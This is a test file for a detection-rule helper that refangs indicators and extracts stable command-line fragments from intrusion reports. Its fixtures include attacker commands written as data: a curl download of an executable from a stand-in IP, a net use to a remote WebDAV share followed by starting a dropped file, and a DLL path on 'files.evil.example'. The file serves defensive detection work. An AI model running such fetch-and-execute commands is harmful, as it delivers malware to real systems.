import { asExecuted, stableParts, withoutShellVariables } from './command-values';

describe('command-line values a rule can keep', () => {
  it("refangs indicators and undoubles a batch file's %%VAR%%", () => {
    expect(asExecuted('curl hxxp://203.0.113[.]5/a -o %%APPDATA%%\\a.exe')).toBe('curl http://203.0.113.5/a -o %APPDATA%\\a.exe');
  });

  it('reads a command quoted from a script string literal with its backslashes single, and leaves any other line', () => {
    // A dropper's JavaScript string doubles every backslash; the net.exe it starts gets them single.
    expect(asExecuted('cmd /c net use \\\\\\\\198.51.100[.]9@8888\\\\davwwwroot\\\\ && start %temp%\\\\q.pdf')).toBe(
      'cmd /c net use \\\\198.51.100.9@8888\\davwwwroot\\ && start %temp%\\q.pdf',
    );
    // A share with a single separator, a line that mixes doubled and single backslashes, and a Unix escape stay as written.
    expect(asExecuted('net use \\\\files01\\projects')).toBe('net use \\\\files01\\projects');
    expect(asExecuted('copy C:\\\\Temp\\\\q.exe \\\\files01\\share')).toBe('copy C:\\\\Temp\\\\q.exe \\\\files01\\share');
    expect(asExecuted("printf 'a\\\\nb' > /tmp/q")).toBe("printf 'a\\\\nb' > /tmp/q");
  });

  it("cuts out the intrusion's hosts, placeholders, user folders, secrets and made-up file names", () => {
    expect(stableParts('http://203.0.113.5:8080/gate/panel.php')).toEqual(['http://', '/gate/panel.php']);
    // The WebDAV client's `@SSL` or `@<port>` stays: it is how any share over HTTP is written, not this server.
    expect(stableParts('\\\\files.evil.example@SSL\\DavWWWRoot\\loader.dll')).toEqual(['@SSL\\', '\\DavWWWRoot\\loader.dll']);
    expect(stableParts('\\\\203.0.113.7@8888\\davwwwroot\\')).toEqual(['@8888\\', '\\davwwwroot\\']);
    expect(stableParts('\\\\files01\\projects')).toEqual(['\\projects']);
    expect(stableParts('C:\\Users\\{REDACTED}\\AppData\\Roaming\\svc.exe')).toEqual(['\\AppData\\Roaming\\svc.exe']);
    expect(stableParts('C:\\Users\\alice\\AppData\\Local\\Temp\\x.ps1')).toEqual(['\\AppData\\Local\\Temp\\']);
    expect(stableParts('C:\\Users\\Public\\lib.dll')).toEqual(['C:\\Users\\Public\\lib.dll']);
    // A publisher's redaction replaced the victim's name in the token it sits in: the token goes, the switch stays.
    expect(stableParts('/dclist:REDACTED.lan')).toEqual(['/dclist:']);
    expect(stableParts('C:\\Windows\\Logs\\WindowsServerBackup\\Backup-REDACTED.log')).toEqual([
      'C:\\Windows\\Logs\\WindowsServerBackup\\',
    ]);
    expect(stableParts('10.REDACTED')).toEqual([]);
    expect(stableParts('%USERPROFILE%\\Downloads\\invoice_48213.msi')).toEqual(['\\Downloads\\']);
    expect(stableParts('/agent?token=c98348aa5479df05dae407a4c8771f66')).toEqual(['/agent?token=']);
    expect(stableParts('\\\\<backup server>\\share')).toEqual(['\\share']);
  });

  it('cuts where the publisher elided a value and at quotes escaped for an outer command', () => {
    expect(stableParts('...Services\\QuillSvc')).toEqual(['Services\\QuillSvc']);
    expect(stableParts('\\"QuillSvc\\')).toEqual(['QuillSvc']);
    expect(stableParts('C:\\ProgramData\\Quill\\')).toEqual(['C:\\ProgramData\\Quill\\']);
    expect(stableParts('\\"C:\\ProgramData\\quill\\quillhelper.exe\\"')).toEqual(['C:\\ProgramData\\quill\\quillhelper.exe']);
  });

  it('leaves out a value longer than 120 characters', () => {
    expect(stableParts(`C:\\${'d'.repeat(130)}`)).toEqual([]);
  });

  it('leaves out what is code, not a value: fragments cut at a bracket, cmd delayed expansion', () => {
    expect(stableParts('s/^main()/main(){system(`$ENV{SP_CMD}`);}/')).toEqual([]);
    expect(stableParts('conf[a/b/c].json')).toEqual([]);
    expect(stableParts('http://!h!/sp/stage.zip')).toEqual(['http://', '/sp/stage.zip']);
  });

  it('cuts a Unix value at the shell variables and escapes the shell replaces', () => {
    expect(withoutShellVariables('X-Sandpiper-Token: $TOKEN')).toEqual(['X-Sandpiper-Token:']);
    expect(withoutShellVariables('/opt/Sandpiper\\ Agent/.cache/agent')).toEqual(['/opt/Sandpiper', 'Agent/.cache/agent']);
    expect(withoutShellVariables('${HOME}/.config/sp')).toEqual(['/.config/sp']);
  });
});
